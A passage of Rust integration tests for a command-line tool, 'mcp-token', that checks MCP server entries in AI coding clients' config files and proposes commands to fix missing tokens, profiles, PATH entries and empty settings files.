    let exec = |arguments: &str| {
        let args = format!(r#""args":["exec",{arguments},"--","x"]"#);
        server("a", &format!(r#"{{"command":"mcp-token",{args}}}"#))
    };
    let profile = "make it with `mcp-token profile set none --secret-from new`, for a token of others with `--secret-from none` and \
         then `mcp-token store none`; or name another";
    let secret = "keep it with `mcp-token secret set none --store file`, or name another";
    for (code, entry, command, more, by_hand) in [
        (
            "no_secret",
            exec(r#""--no-token","--secret-var","K=none""#),
            "secret set none --store file",
            " --secret-file -",
            secret,
        ),
        ("no_profile", exec(r#""none""#), "setup --profile none", " --yes", profile),
    ] {
        ward.file("p/.cursor/mcp.json", &entry);
        let found = ward.findings(&["--project", "p"]);
        assert_eq!((found.len(), &found[0]["code"], &found[0]["mend"]), (1, &code.into(), &by_hand.into()));
        fs::remove_file(ward.path("p/.cursor/mcp.json")).unwrap();
        ward.file(CURSOR, entry);
        let found = ward.found(&[]);
        let command = format!("mcp-token {command}");
        assert_eq!((found.len(), &*found[0].0, &*found[0].3), (1, code, &*command), "{found:?}");
        ward.shell_with(&(command + more), SECRET).code(0);
        assert_eq!(ward.found(&[]), []);
    }
}

/// Two users at one server: an entry stays that of the one whom it names.
#[test]
fn of_two_profiles_of_one_server_the_one_that_is_named_is_installed() {
    let ward = Ward::exai();
    ward.shell(&format!("mcp-token setup --yes --profile other --preset exai --sub b --url {URL}")).code(0);
    for (file, entry, client) in [
        (CURSOR, r#"{"url":"@","headers":{"Authorization":"Bearer ${OTHER_JWT_TOKEN}"}}"#, "cursor"),
        (
            "~/.claude.json",
            r#"{"type":"http","url":"@","headersHelper":"/gone/mcp-token get other -o headers-json"}"#,
            "claude-code",
        ),
    ] {
        let path = ward.file(file, server("team", &entry.replace('@', URL)));
        let found = ward.found(&[]);
        let install = format!("mcp-token client install {client} --profile other --name team");
        assert_eq!(found[0].3, install, "{found:?}");
        fs::remove_file(path).unwrap();
    }
}

/// Of several that hand on their token in one variable that of the name of the entry.
#[test]
fn an_entry_by_the_name_of_a_profile_is_for_that_one() {
    let ward = Ward::new();
    for name in ["aa", "bb"] {
        let made = ["--secret-from", "new", "--store", "file", "--url", URL, "--var", "JWT_TOKEN"];
        ward.keeper.set(&[&[name][..], &made].concat());
    }
    let entry = |name: &str, variable: &str| {
        server(name, &format!(r#"{{"url":"{URL}","headers":{{"Authorization":"Bearer {variable}"}}}}"#))
    };
    for (name, profile) in [("bb", "bb"), ("aa", "aa"), ("other", "aa")] {
        ward.file(CURSOR, entry(name, "${env:JWT_TOKEN}"));
        assert_eq!(ward.found(&[])[0].3, format!("export JWT_TOKEN=$(mcp-token get {profile})"));
        ward.file(CURSOR, entry(name, "{env:JWT_TOKEN}"));
        let named = if name == profile { String::new() } else { format!(" --name {name}") };
        assert_eq!(
            ward.found(&[])[0].3,
            format!("mcp-token client install cursor --profile {profile}{named}")
        );
    }
}

/// What lies in a file stays there: it may be more than a token, or a project's too.
#[test]
fn a_token_in_a_file_is_kept_in_a_profile() {
    let windsurf = "~/.codeium/windsurf/mcp_config.json";
    let far = "https://far.example/mcp";
    let entry = r#"{"serverUrl":"@","headers":{"Authorization":"Bearer ${file:~/tok}"}}"#.replace('@', far);
    let made = format!("mcp-token profile set far --secret-from none --url {far} && mcp-token store far");
    let line = format!("{made} && mcp-token client install windsurf --profile far");
    let json = format!(r#"{{"access_token":"{}","refresh_token":"PRIVATE"}}"#, filled("@DEAD@"));
    for held in ["@DEAD@", "", "eyJhbGciOiJIUzI1NiJ9.e30", "@OTHER@", "Bearer @LIVE@", &json] {
        let ward = Ward::exai();
        ward.file(windsurf, server("far", &entry));
        let held = filled(held);
        let path = ward.file("~/tok", &held);
        let found = ward.findings(&[]);
        let needed = "get a token for this server from its issuer";
        assert_eq!(
            (found.len(), &found[0]["command"], &found[0]["mend"]),
            (1, &(&*line).into(), &needed.into())
        );
        ward.shell_with(&line, &filled("@LIVE@")).code(0);
        assert_eq!(fs::read_to_string(path).unwrap(), held);
        assert!(ward.found(&[]).iter().all(|one| one.0 == "unset_variable"), "{held}");
    }
}

/// What others share names this program by its name: it is found from the shell that a client is started in.
#[test]
fn a_project_s_program_is_put_on_the_path() {
    let ward = Ward::exai();
    ward.program("x", "exit 0");
    ward.file(
        "p/.cursor/mcp.json",
        server("a", r#"{"command":"mcp-token","args":["exec","exai","--","x"]}"#),
    );
    let args = ["--project", "p", "--json"];
    let found = ward.findings_by(&ward.doctor_with(&args, |command| command.env("PATH", "/usr/bin:/bin")));
    let folder = std::path::Path::new(env!("CARGO_BIN_EXE_mcp-token")).parent().unwrap();
    let line = format!("export PATH=\"$PATH\":{}", folder.display());
    let plain = ward.keeper.plain(&line);
    let what = "start Cursor from the same shell";
    assert_eq!((&found[0]["command"], &found[0]["mend"]), (&plain.into(), &what.into()), "{found:?}");
    let after = format!("PATH=/usr/bin:/bin\n{line}\nmcp-token doctor --project p --json");
    let found = ward.found_by(&ward.shell(&after).code(0));
    assert!(found.iter().all(|one| one.0 != "no_program" || !one.2.contains("`mcp-token`")), "{found:?}");
}

/// A file with nothing in it loses nothing.
#[test]
fn an_empty_file_is_made_an_object() {
    let ward = Ward::exai();
    for file in ["~/.gemini/settings.json", "~/.qwen/settings.json"] {
        let path = ward.file(file, "");
        ward.mended(&[], "unreadable", &format!("echo '{{}}' > {file}"));
        fs::write(&path, "[]").unwrap();
        ward.by_hand(&[], "unreadable", "an object as the whole of it", || fs::write(&path, "{}").unwrap());
    }
}
